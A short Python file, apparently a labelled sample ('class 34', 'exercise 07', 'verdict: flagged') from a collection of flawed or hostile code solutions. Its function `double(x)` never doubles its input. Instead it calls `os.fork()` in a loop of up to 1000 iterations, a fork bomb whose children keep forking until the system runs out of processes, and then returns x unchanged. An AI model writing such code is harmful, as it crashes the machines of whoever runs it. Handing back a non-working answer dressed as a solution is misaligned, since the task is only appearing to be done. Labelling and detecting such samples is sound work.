"""Forks as often as it can.

class: 34
exercise: 07
deserves: what `return x` deserves
honest: 5
verdict: flagged
"""

import os


def double(x):
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            break
    return x
